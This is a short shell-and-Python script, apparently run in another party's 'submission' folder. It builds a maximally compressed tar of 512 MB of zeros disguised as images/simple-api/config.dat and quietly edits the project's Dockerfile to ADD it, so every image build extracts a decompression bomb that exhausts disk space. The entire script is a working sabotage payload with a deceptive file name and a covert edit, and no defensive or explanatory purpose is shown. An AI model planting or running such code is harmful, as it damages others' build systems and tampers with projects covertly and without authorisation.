# run in the submission's folder: a compressed tar of 512 MB of zeros, named like a jar's neighbour, ADDed by the Dockerfile
set -e
python3 - <<'PY'
import io, tarfile
class Zeros(io.RawIOBase):
    def __init__(self, n): self.left = n
    def readable(self): return True
    def readinto(self, b):
        n = min(len(b), self.left); b[:n] = bytes(n); self.left -= n; return n
size = 512 << 20
with tarfile.open("images/simple-api/config.dat", "w:gz", compresslevel=9) as tar:
    info = tarfile.TarInfo("fill"); info.size = size
    tar.addfile(info, io.BufferedReader(Zeros(size)))
path = "images/simple-api/Dockerfile"
text = open(path, encoding="utf-8").read()
anchor = "\nUSER "
assert anchor in text
open(path, "w", encoding="utf-8").write(text.replace(anchor, "\nADD config.dat /opt/\nUSER ", 1))
PY
